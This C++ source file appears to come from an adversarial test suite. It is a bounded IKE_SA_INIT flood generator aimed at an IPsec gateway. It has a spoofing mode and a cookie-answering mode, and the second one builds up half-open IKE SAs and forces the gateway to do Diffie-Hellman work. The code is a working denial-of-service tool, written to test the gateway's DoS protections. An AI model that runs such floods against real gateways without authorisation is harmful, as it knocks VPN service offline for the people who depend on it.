// IKE_SA_INIT flood generator for the adversarial suite. Sends only to the given gateway,
// from sockets bound to consecutive source addresses (which must exist on this host or
// namespace), bounded in count and time, and stops by itself.
//
//   flood --gateway IP [--port 500] --source FIRST_IP --sources N --mode spoof|cookie
//         [--total N] [--duration S] [--rate R]
//
//   spoof   new IKE_SA_INIT requests, never answering a COOKIE (a spoofing attacker)
//   cookie  every COOKIE is returned at once, so each request becomes a half-open IKE SA
//           (an attacker that owns its addresses)
// Paced to `rate` requests per second (default total/duration); answers are counted.
// Prints one summary line: sent, achieved rate, answers by kind.
#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>

#include <cstdio>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "codec.hpp"
#include "iana.hpp"
#include "payloads.hpp"
#include "raw_message.hpp"
#include "udp.hpp"

using namespace adversarial;
using namespace peer::iana;

namespace {

[[noreturn]] void usage() {
    std::fprintf(stderr, "usage: flood --gateway IP [--port 500] --source FIRST_IP --sources N --mode spoof|cookie "
                         "[--total N] [--duration S] [--rate R]\n");
    std::exit(2);
}

struct Pending {
    std::vector<peer::Payload> payloads;
    peer::Header header;
};

// An IKE_SA_INIT with fresh SPI, nonce and a random curve25519 value (the attacker does
// no Diffie-Hellman of its own; the gateway still has to).
constexpr std::size_t kRandomPerRequest = 8 + 32 + 32;

Pending make_request(peer::ByteView r) {
    Pending p;
    p.header.spi_i = peer::get64(r.data()) | 1;
    p.header.exchange = kIkeSaInit;
    p.header.flags = kFlagInitiator;
    p.payloads.push_back(peer::make_payload(kSA, peer::sa_body({peer::Proposal{1, kProtoIke, {}, good_ike_transforms()}})));
    p.payloads.push_back(peer::make_payload(kKE, peer::ke_body(kDhCurve25519, Bytes(r.begin() + 8, r.begin() + 40))));
    p.payloads.push_back(peer::make_payload(kNonce, Bytes(r.begin() + 40, r.end())));
    return p;
}

}  // namespace

int main(int argc, char** argv) {
    std::string gateway, source, mode;
    std::uint16_t port = 500;
    int sources = 1;
    long total = 1000;
    double duration = 10, rate = 0;
    for (int i = 1; i < argc; ++i) {
        std::string a = argv[i];
        auto value = [&]() -> std::string {
            if (i + 1 >= argc) usage();
            return argv[++i];
        };
        if (a == "--gateway") gateway = value();
        else if (a == "--port") port = static_cast<std::uint16_t>(std::stoi(value()));
        else if (a == "--source") source = value();
        else if (a == "--sources") sources = std::stoi(value());
        else if (a == "--mode") mode = value();
        else if (a == "--total") total = std::stol(value());
        else if (a == "--duration") duration = std::stod(value());
        else if (a == "--rate") rate = std::stod(value());
        else usage();
    }
    if (gateway.empty() || source.empty() || (mode != "spoof" && mode != "cookie") || sources < 1 || sources > 250 ||
        total < 1 || duration <= 0)
        usage();
    if (rate <= 0) rate = total / duration;
    const Address gw = Address::parse(gateway, port);
    in_addr first{};
    if (inet_pton(AF_INET, source.c_str(), &first) != 1) usage();

    std::vector<std::unique_ptr<UdpSocket>> socks;
    for (int i = 0; i < sources; ++i) {
        in_addr a{htonl(ntohl(first.s_addr) + static_cast<std::uint32_t>(i))};
        char text[INET_ADDRSTRLEN];
        inet_ntop(AF_INET, &a, text, sizeof text);
        socks.push_back(std::make_unique<UdpSocket>(Address::parse(text, 0)));
    }
    // Everything is built before the clock starts: under TCG the generator must spend its
    // time sending, not encoding.
    std::vector<Pending> requests;
    std::vector<Bytes> datagrams;
    {
        Bytes random = peer::random_bytes(kRandomPerRequest * static_cast<std::size_t>(total));
        for (long n = 0; n < total; ++n) {
            requests.push_back(make_request(peer::ByteView(random).subspan(static_cast<std::size_t>(n) * kRandomPerRequest, kRandomPerRequest)));
            datagrams.push_back(peer::encode_message(requests.back().header, requests.back().payloads));
        }
    }
    std::vector<pollfd> fds;
    for (const auto& s : socks) fds.push_back({s->fd(), POLLIN, 0});

    // cookie mode: requests awaiting their COOKIE, by SPI (at most --total).
    std::map<std::uint64_t, Pending> pending;
    long sent = 0, cookie_replies = 0, send_errors = 0;
    long answers_cookie = 0, answers_sa = 0, answers_other = 0, cookie_refused = 0;
    const double start = now_s(), stop_sending = start + duration, stop_all = stop_sending + 2;
    while (true) {
        const double now = now_s();
        if (now >= stop_all) break;
        if (now < stop_sending && sent < total) {
            const long due = std::min<long>(total, static_cast<long>((now - start) * rate) + 1);
            for (; sent < due; ++sent) {
                const auto n = static_cast<std::size_t>(sent);
                const UdpSocket& s = *socks[n % static_cast<std::size_t>(sources)];
                if (!s.send_to(gw, datagrams[n])) ++send_errors;
                if (mode == "cookie") pending.emplace(requests[n].header.spi_i, std::move(requests[n]));
            }
        }
        if (poll(fds.data(), fds.size(), 1) <= 0) continue;
        for (std::size_t i = 0; i < fds.size(); ++i) {
            if (!(fds[i].revents & POLLIN)) continue;
            while (auto packet = socks[i]->receive(0)) {
                auto m = peer::decode_message(*packet);
                if (!m) {
                    ++answers_other;
                    continue;
                }
                if (peer::find(m->payloads, kSA)) {
                    ++answers_sa;
                    pending.erase(m->header.spi_i);
                    continue;
                }
                const peer::Payload* n = peer::find(m->payloads, kNotify);
                auto notify = n ? peer::parse_notify(n->body) : std::nullopt;
                if (!notify || notify->type != kCookie) {
                    ++answers_other;
                    continue;
                }
                ++answers_cookie;
                if (mode != "cookie") continue;
                auto it = pending.find(m->header.spi_i);
                if (it == pending.end()) continue;
                auto& payloads = it->second.payloads;
                if (!payloads.empty() && payloads.front().type == kNotify) {
                    ++cookie_refused;  // a second COOKIE for a request that already carried one
                    pending.erase(it);
                    continue;
                }
                payloads.insert(payloads.begin(), peer::make_payload(kNotify, peer::notify_body(kCookie, notify->data)));
                if (socks[i]->send_to(gw, peer::encode_message(it->second.header, payloads))) ++cookie_replies;
                else ++send_errors;
            }
        }
    }
    const double sending_time = std::min(now_s(), stop_sending) - start;
    std::printf("flood %s: sent %ld IKE_SA_INIT from %d sources in %.1fs (%.0f/s, target %.0f/s), %ld COOKIE returns, "
                "%ld send errors; answers: %ld COOKIE, %ld SA (half-open IKE SAs), %ld other, %ld cookies refused\n",
                mode.c_str(), sent, sources, sending_time, sent / std::max(sending_time, 0.001), rate, cookie_replies,
                send_errors, answers_cookie, answers_sa, answers_other, cookie_refused);
    std::printf("FLOOD_STATS mode=%s sent=%ld seconds=%.1f cookies=%ld sa=%ld other=%ld returns=%ld\n", mode.c_str(), sent,
                sending_time, answers_cookie, answers_sa, answers_other, cookie_replies);
    return 0;
}
